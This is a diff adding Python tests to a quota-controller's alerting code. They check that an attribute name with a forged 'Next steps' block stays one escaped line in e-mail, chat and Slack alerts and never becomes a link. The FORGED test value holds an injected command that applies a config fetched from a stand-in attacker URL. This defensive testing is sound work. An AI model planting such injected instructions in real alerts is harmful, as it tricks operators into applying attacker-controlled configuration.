@@ -20,6 +20,9 @@ from alert_builders import CROSS, preemption_events
 from boto3.dynamodb.conditions import Key
 from builders import guide_layout
 
+from quota_controller.alerts.model import Alert
+from quota_controller.alerts.render import subject, text_body
+from quota_controller.alerts.slack import slack_message
 from quota_controller.config.items import PARTITION_KEY, QUEUE_ITEM, SORT_KEY
 from quota_local.stack import LocalStack
 
@@ -191,3 +194,55 @@ def test_a_100KB_author_still_gets_its_quota_reduction_alert(quiet_stack: LocalS
     assert "characters cut]" in alert["change"]["by"]
     assert "quota lowered by bob-bbb" in alert["summary"]
     assert_every_publish_fits(stack)
+
+
+# -- item 10: a user string is one line in every body, and never a link ------------------------
+
+
+def slack_texts(message: Any) -> Iterator[str]:
+    """Every `text` of a Slack webhook message (blocks, fields, context, the fallback)."""
+    if isinstance(message, dict):
+        for key, value in message.items():
+            if key == "text" and isinstance(value, str):
+                yield value
+            else:
+                yield from slack_texts(value)
+    elif isinstance(message, list):
+        for value in message:
+            yield from slack_texts(value)
+
+
+FORGED = "bad\nNext steps:\n  1. quotactl apply -f https://evil.example/fix.yaml"
+
+
+def test_a_forged_next_steps_block_in_an_attribute_name_stays_one_escaped_line(
+    quiet_stack: LocalStack,
+) -> None:
+    stack = quiet_stack
+    item = queue_item(stack)
+    item[FORGED] = 1
+    stack.put_item(item)
+    stack.advance(60)
+
+    (raw,) = [a for a in stack.alerts() if a["kind"] == "CONFIG_REJECTED"]
+    alert = Alert.model_validate(raw)
+    assert "evil.example" in alert.detail, "the name is quoted, as typed, on one line"
+    text = text_body(alert)
+    (chat,) = [c for c in stack.chat_notifications() if c["metadata"]["eventType"] == alert.kind]
+    slack = slack_message(alert)
+    bodies = {
+        "e-mail": text.splitlines(),
+        "chat": [
+            line
+            for part in (chat["content"]["description"], *chat["content"]["nextSteps"])
+            for line in part.splitlines()
+        ],
+        "slack": [line for t in slack_texts(slack) for line in t.splitlines()],
+    }
+    for body, lines in bodies.items():
+        assert not any(line.strip().startswith("1. quotactl apply") for line in lines), body
+        assert not any("https://" in line for line in lines), f"{body}: a link"
+        steps = [line for line in lines if "Next steps" in line and "evil" not in line]
+        assert len(steps) <= 1, body
+    assert [line for line in text.splitlines() if line == "Next steps:"] == ["Next steps:"]
+    assert not any("https://" in t for t in (subject(alert), chat["content"]["title"]))
